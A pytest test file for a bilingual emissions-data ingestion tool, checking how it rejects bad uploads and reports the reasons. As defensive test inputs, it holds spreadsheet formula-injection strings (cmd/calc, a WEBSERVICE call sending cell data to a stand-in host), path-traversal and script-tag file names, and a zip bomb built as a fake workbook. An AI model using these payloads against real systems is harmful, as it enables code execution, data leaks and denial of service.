"""What the doors do with bad input: one test for each thing that people send.

Each asks the same: what the person sees in both languages, how the command ends, that every row
is posted, rejected with its reason, waiting or unchanged, that a rejected row goes back as it
came, and that a second run posts nothing. All data are 合成数据 (synthetic).
"""

from __future__ import annotations

import io
import resource
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path

import pytest
import xlsxwriter

from tests.doors.desk import (
    DAIRY,
    FOUNDRY,
    HEADER,
    HEATING,
    STRANGER,
    Desk,
    burned,
    start,
    table,
)

COAL = "烟煤"
MB = 1024 * 1024


def row(quantity: object = "10", unit: str = "吨", **cells: object) -> dict[str, object]:
    """A good row that the general method has a factor for."""
    return burned(quantity, unit, **{"能源品种": COAL} | cells)


@dataclass(frozen=True)
class Bad:
    """Rows between two good ones: the rule and column that refuse each, and what is said."""

    cells: Sequence[Mapping[str, object]]
    rules: Sequence[tuple[str, str]]
    zh: tuple[str, ...]
    en: tuple[str, ...]
    header: tuple[str, ...] = HEADER


CASES = {
    "unit of the wrong dimension": Bad(
        [row(unit="kWh")],
        [("UN-01", "unit")],
        ("“烟煤”的计量单位写的是“kWh”，量纲不符",),
        ("unit of the wrong dimension",),
    ),
    "unknown carrier": Bad(
        [row(能源品种="复配节能燃料乙")],
        [("IN-06", "carrier")],
        ("“能源品种”列的“复配节能燃料乙”不是已知的能源或物料品种", "相近的有"),
        ("is no known energy carrier", "Nearest"),
    ),
    "unregistered enterprise": Bad(
        [row(统一社会信用代码=STRANGER)],
        [("RG-02", "enterprise_id")],
        (f"企业“{STRANGER}”", "未登记", "先申请登记"),
        ("is not registered from 2025-03-01 to 2025-03-31",),
    ),
    "bad credit code": Bad(
        [row(统一社会信用代码=HEATING[:-1] + "X"), row(统一社会信用代码=HEATING[:-1])],
        [("RG-01", "enterprise_id")] * 2,
        ("校验码", "请对照营业执照更正后重报"),
        ("whose last is the check digit",),
    ),
    "negative quantity": Bad(
        [row("-5")],
        [("VA-01", "quantity")],
        ("数量为负：-5 吨", "更正"),
        ("The quantity is negative: -5 吨", "correction_of"),
    ),
    "absurd quantity": Bad(
        [row("99999999999")],
        [("VA-02", "quantity")],
        ("99999999999",),
        ("99999999999",),
    ),
    "not a number and infinity": Bad(
        [row("NaN"), row("inf"), row("-Infinity"), row("∞"), row("nan")],
        [("IN-03", "quantity")] * 5,
        ("“数量”列的“NaN”不是数字", "“数量”列的“∞”不是数字"),
        ("'NaN' in column 数量 is not a number", "'inf' in column 数量"),
    ),
    "more decimals than can be kept": Bad(
        [row("1.1234567890123"), row("123456789012345678901")],
        [("IN-04", "quantity")] * 2,
        ("“1.1234567890123”位数过多", "系统不会自行四舍五入"),
        ("has too many digits", "Nothing is rounded for you"),
    ),
    "formulas in cells": Bad(
        [row("=1+1"), row("+cmd|' /C calc'!A0"), row("@SUM(1)"), row(月份="=TODAY()")],
        [("IN-10", "quantity")] * 3 + [("IN-10", "period")],
        ("“=1+1”是公式文本，不是值；系统从不执行公式",),
        ("is the text of a formula and no value; formulas are never run",),
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_a_bad_row_goes_back_and_the_good_ones_are_posted(desk: Desk, name: str) -> None:
    case = CASES[name]
    path = desk.send("月报.csv", table([row("1"), *case.cells, row("2", 能源品种="柴油")]))
    count = len(case.cells)
    for lang, words in (("zh", case.zh), ("en", case.en)):
        answer = desk("check", path, lang=lang)
        assert answer.code == 1
        assert answer.says(*words), answer.out
    assert not desk.one("SELECT count(*) FROM emissions.source")

    answer = desk.run("2025-03", "--json")
    (done,) = answer.data
    assert answer.code == 1
    assert account(done) == [{"read": count + 2, "posted": 2, "rejected": count}]
    places = range(3, 3 + count)
    assert desk.rejected() == [
        (place, column, rule) for place, (rule, column) in zip(places, case.rules, strict=True)
    ]
    assert_goes_back(desk, case)
    assert_nothing_twice(desk, 1)


def account(done: Mapping[str, object]) -> list[dict[str, int]]:
    """What became of the rows of each file; counts of zero are left out."""
    kinds = ("read", "posted", "rejected", "waiting", "unchanged", "held")
    accounts = done["accounts"]
    assert isinstance(accounts, list)
    for file in accounts:
        assert file["read"] == sum(file[kind] for kind in kinds[1:])
    return [{kind: file[kind] for kind in kinds if file[kind]} for file in accounts]


def assert_goes_back(desk: Desk, case: Bad) -> None:
    """The workbook holds each bad row as it was sent, its number, and reasons in both languages."""
    sheet = desk.returned()["退回数据"]
    assert tuple(sheet[0][: len(case.header)]) == case.header
    back = [[cell or "" for cell in line] for line in sheet[1:]]
    width, number = len(case.header), sheet[0].index("原文件行号")
    assert [line[:width] for line in back] == [
        [str(cells.get(name, "")) for name in case.header] for cells in case.cells
    ]
    assert [line[number] for line in back] == list(range(3, 3 + len(case.cells)))
    reasons = "".join(f"{line[number + 1]}{line[number + 2]}" for line in back)
    squeezed = "".join(reasons.split())
    for words in (*case.zh, *case.en):
        assert "".join(words.split()) in squeezed


def assert_nothing_twice(desk: Desk, code: int, month: str = "2025-03") -> None:
    """A second run of the same files adds no commit, no activity and no entry."""
    before = desk.head
    answer = desk.run(month, "--json")
    assert answer.code == code
    assert desk.head == before
    assert all(done["entries"] == 0 for done in answer.data)


def test_a_row_without_a_factor_goes_back_too(desk: Desk) -> None:
    """Only posting knows that nothing fits the row; the sender hears of it all the same."""
    case = Bad(
        [burned("7")],
        [("FA-01", "carrier")],
        ("没有可用的因子",),
        ("No factor for NCV of raw coal",),
    )
    desk.send("月报.csv", table([row("1"), *case.cells, row("2", 能源品种="柴油")]))
    answer = desk.run("2025-03", "--json")
    assert answer.code == 1
    assert account(answer.data[0]) == [{"read": 3, "posted": 2, "rejected": 1}]
    assert desk.rejected() == [(3, "carrier", "FA-01")]
    assert_goes_back(desk, case)
    assert_nothing_twice(desk, 1)


def test_bytes_of_no_encoding_refuse_the_file(desk: Desk) -> None:
    content = table([row("1"), row("2", 能源品种="柴油")]).encode("gb18030")
    desk.send("月报.csv", content[:-20] + b"\xff\xfe\x80" + content[-20:])
    assert_whole_file_refused(desk, "IN-01", "文字编码无法识别", "encoding of 月报.csv cannot be")


def test_gb18030_is_read_as_such(desk: Desk) -> None:
    desk.send("月报.csv", table([row("1"), row("2", 能源品种="柴油")]).encode("gb18030"))
    answer = desk.run("2025-03", "--json")
    assert (answer.code, account(answer.data[0])) == (0, [{"read": 2, "posted": 2}])
    assert desk.one(
        "SELECT count(*) FROM emissions.activity WHERE enterprise_name = ?", "合成供热站"
    )


def test_an_empty_file_is_refused(desk: Desk) -> None:
    desk.send("月报.csv", b"")
    assert_whole_file_refused(desk, "IN-01", "是空的", "is empty")


def test_a_wrong_header_is_refused(desk: Desk) -> None:
    desk.send("月报.csv", "企业名称,工业总产值（万元）,从业人数\n合成供热站,1250,86\n")
    assert_whole_file_refused(desk, "IN-02", "没有找到表头", "No header was found")


def test_an_archive_bomb_named_xlsx_is_refused(desk: Desk) -> None:
    """320 megabytes of nothing in 320 kilobytes; judged by its directory, never unpacked."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as entry:
            for _ in range(5):
                entry.write(bytes(64 * MB))
    desk.send("月报.xlsx", packed.getvalue())
    before = resource.getrusage(resource.RUSAGE_SELF).ru_utime
    assert_whole_file_refused(desk, "IN-01", "解压后过大", "would unpack to too much")
    assert resource.getrusage(resource.RUSAGE_SELF).ru_utime - before < 6


def test_a_workbook_of_200_megabytes_is_refused(desk: Desk) -> None:
    path = desk.send("月报.xlsx", b"PK\x03\x04")
    with path.open("r+b") as file:
        file.truncate(200 * MB + 1)
    assert_whole_file_refused(desk, "IN-01", "超过工作簿上限 200 MB", "limit of 200 MB")


def assert_whole_file_refused(desk: Desk, rule: str, zh: str, en: str) -> None:
    """One file that cannot be used beside a good one: it is on record, and the good one posts."""
    (path,) = desk.inbox.iterdir()
    for lang, words in (("zh", zh), ("en", en)):
        answer = desk("check", path, lang=lang)
        assert answer.code == 1
        assert answer.says(words), answer.out
    desk.send("另一家.csv", table([row("3", 统一社会信用代码=FOUNDRY)]))
    answer = desk.run("2025-03", "--json")
    (done,) = answer.data
    assert answer.code == 1
    assert account(done) == [{"read": 1, "posted": 1}, {}]
    assert [file["name"] for file in done["accounts"]] == ["另一家.csv", path.name]
    assert desk.rejected() == [(0, "", rule)]
    told = "".join(str(cell) for line in desk.returned()["填写说明"] for cell in line)
    assert zh in told
    assert en in told
    assert_nothing_twice(desk, 1)


def test_two_rows_that_look_alike_are_both_posted(desk: Desk) -> None:
    path = desk.send("月报.csv", table([row("10"), row("10")]))
    for lang, words in (("zh", "一样"), ("en", "look alike")):
        answer = desk("check", path, lang=lang)
        assert answer.code == 0
        assert answer.says("DU-01"), (words, answer.out)
    answer = desk.run("2025-03", "--json")
    assert (answer.code, account(answer.data[0])) == (0, [{"read": 2, "posted": 2}])
    assert desk.one("SELECT sum(quantity) FROM emissions.live_activity") == 20
    assert desk.rows("SELECT rule, severity FROM emissions.rejection") == [("DU-01", "W")]
    assert_nothing_twice(desk, 0)


def test_the_same_file_under_another_name_has_no_effect(desk: Desk) -> None:
    content = table([row("10"), row("2", 能源品种="柴油")])
    desk.send("月报.csv", content)
    assert desk.run().code == 0
    before, total = desk.head, desk.total()
    desk.send("月报（再次报送）.csv", content)
    answer = desk.run("2025-03", "--json")
    assert (answer.code, desk.head, desk.total()) == (0, before, total)
    assert answer.data[0]["accounts"] == []
    # A file that is another one but says the same has no effect either, and is on record.
    desk.send("月报（另存）.csv", content.replace("\n", "\r\n"))
    answer = desk.run("2025-03", "--json")
    assert (answer.code, desk.total()) == (0, total)
    assert account(answer.data[0]) == [{"read": 2, "unchanged": 2}]
    assert answer.data[0]["entries"] == 0
    assert_nothing_twice(desk, 0)


def test_one_changed_cell_replaces_its_stream_by_reversal(desk: Desk) -> None:
    good = [row("10"), row("2", 能源品种="柴油")]
    desk.send("月报.csv", table(good))
    assert desk.run().code == 0
    before = desk.rows("SELECT entry_id, carrier, value FROM emissions.line ORDER BY entry_id")
    desk.send("月报_更正.csv", table([row("11"), good[1]]))
    answer = desk.run("2025-03", "--json")
    assert answer.code == 0
    assert account(answer.data[0]) == [{"read": 2, "posted": 1, "unchanged": 1}]
    coal = {entry: value for entry, carrier, value in before if carrier == "bituminous"}
    reversed_ = desk.rows(
        "SELECT reverses_id, value, cause FROM emissions.line WHERE kind = 'reversal'"
    )
    assert {entry: -value for entry, value, _ in reversed_} == coal
    assert {cause for _, _, cause in reversed_} == {"resubmission"}
    assert desk.rows("SELECT carrier, quantity FROM emissions.live_activity ORDER BY carrier") == [
        ("bituminous", 11),
        ("diesel", 2),
    ]
    ((was, now),) = desk.rows("SELECT from_source, by_source FROM emissions.withdrawal")
    names = dict(desk.rows("SELECT DISTINCT source, name FROM emissions.source"))
    assert (names[was], names[now]) == ("月报.csv", "月报_更正.csv")
    assert_nothing_twice(desk, 0)


def test_a_closed_month_takes_nothing_and_loses_nothing(desk: Desk) -> None:
    desk.send("月报.csv", table([row("10")]))
    assert desk.run().code == 0
    assert desk("close", "2025-03").code == 0
    total = desk.total()
    desk.send("迟报.csv", table([row("4", 统一社会信用代码=FOUNDRY)]))
    answer = desk.run("2025-03", "--json")
    assert (answer.code, desk.total()) == (0, total)
    assert account(answer.data[0]) == [{"read": 1, "waiting": 1}]
    assert desk.run().says("2025-03")
    assert desk.rows("SELECT enterprise_id, quantity FROM emissions.still_waiting") == [
        (FOUNDRY, 4)
    ]
    bulletin = (desk.home.reports / "2025-03" / "bulletin.html").read_text(encoding="utf-8")
    assert FOUNDRY in bulletin or "合成铸造厂" in bulletin
    assert_nothing_twice(desk, 0)


def test_formulas_of_a_workbook_are_never_run_nor_written_out(desk: Desk) -> None:
    path = desk.inbox / "月报.xlsx"
    book = xlsxwriter.Workbook(str(path))
    sheet = book.add_worksheet("月报")
    sheet.write_row(0, 0, (*HEADER, "备注"))
    good, bad, noted = row("5"), row("6"), row("7", 能源品种="柴油")
    for line, cells in enumerate((good, bad, noted), start=1):
        for column, name in enumerate(HEADER):
            sheet.write_string(line, column, str(cells[name]))
    sheet.write_formula(1, 5, "=2+3", None, 5)
    sheet.write_string(2, 5, '=WEBSERVICE("http://example.invalid/"&A2)')
    sheet.write_string(3, 7, '=HYPERLINK("http://example.invalid/","看")')
    book.close()
    answer = desk.run("2025-03", "--json")
    assert answer.code == 1
    assert account(answer.data[0]) == [{"read": 3, "posted": 2, "rejected": 1}]
    assert desk.rejected() == [(3, "quantity", "IN-10")]
    posted = desk.rows("SELECT quantity, note FROM emissions.activity ORDER BY quantity")
    assert [quantity for quantity, _ in posted] == [5, 7]
    assert posted[1][1].startswith("=HYPERLINK")
    for name in (HEATING, DAIRY):
        desk("statement", name, "--period", "2025-03", "--format", "html,xlsx,json")
    written = [path for path in desk.home.path.rglob("*.xlsx") if "sources" not in path.parts]
    assert len(written) >= 3
    for path in written:
        assert_no_formula(path)


def assert_no_formula(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), (path.name, name)
                assert b"<f " not in archive.read(name), (path.name, name)


NAMES_OF_FILES = (
    "月报\\..\\..\\..\\outside.csv",
    "C:\\windows\\system32\\outside.csv",
    "=cmd|' !A0.csv",
    "-rf --home.csv",
    "a\nb\t<script>.csv",
    "报" * 80 + ".csv",
    "con.csv.",
    "%2e%2e%2foutside.csv",
)


def test_the_name_of_a_file_is_never_a_path(desk: Desk) -> None:
    """Names that would lead elsewhere, run something or break a table: each file is kept by its
    hash, its rejected row goes back, and nothing appears outside the home."""
    for number, name in enumerate(NAMES_OF_FILES):
        desk.send(name, table([row(f"{number + 1}"), row(f"x{number}")]))
    around = set(desk.home.path.parent.iterdir())
    answer = desk.run("2025-03", "--json")
    assert answer.code == 1
    assert set(desk.home.path.parent.iterdir()) == around
    assert sorted(file["name"] for file in answer.data[0]["accounts"]) == sorted(NAMES_OF_FILES)
    returned = [Path(path) for path in answer.data[0]["returned"]]
    assert len({path.name for path in returned}) == len(NAMES_OF_FILES)
    assert {path.parent for path in returned} == {desk.home.rejected / "2025-03"}
    assert not list(desk.home.path.parent.rglob("outside*"))
    assert all(
        file.parent.name in file.parent.parent.name + file.parent.name
        for file in desk.home.sources.rglob("original*")
    )
    html = (desk.home.reports / "2025-03" / "bulletin.html").read_text(encoding="utf-8")
    assert "<script>.csv" not in html


def test_a_path_that_is_no_file_is_wrong_use(desk: Desk, tmp_path: Path) -> None:
    for path in (tmp_path / "nowhere.csv", tmp_path):
        for command in (("check", path), ("ingest", path), ("post", "2025-03", path)):
            answer = desk(*command)
            assert answer.code == 2, (command, answer)
            assert answer.says(str(path)), answer
            assert "Traceback" not in answer.err


def test_a_table_of_200_megabytes_is_read_in_little_memory(desk: Desk) -> None:
    """CSV has no limit: it streams. One row of 100,000 is bad, and only that one is rejected."""
    good = table([row("1", 备注="合成数据" * 175)], (*HEADER, "备注"))
    header, line = good.splitlines(keepends=True)
    path = desk.inbox / "大表.csv"
    with path.open("w", encoding="utf-8") as file:
        file.write(header)
        for _ in range(100):
            file.write(line * 999)
            file.write(line.replace(",1,吨", ",2,吨"))
        file.write(line.replace(",1,吨", ",一,吨"))
    assert path.stat().st_size > 200 * MB
    process = start(desk.words("check", path, "--json"))
    out, err = process.communicate()
    assert process.returncode == 1, err
    assert '"rows_read": 100001' in out
    assert '"rows_rejected": 1' in out
    # Of all processes that this one has waited for; none of them is larger.
    peak = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    assert peak < 2048
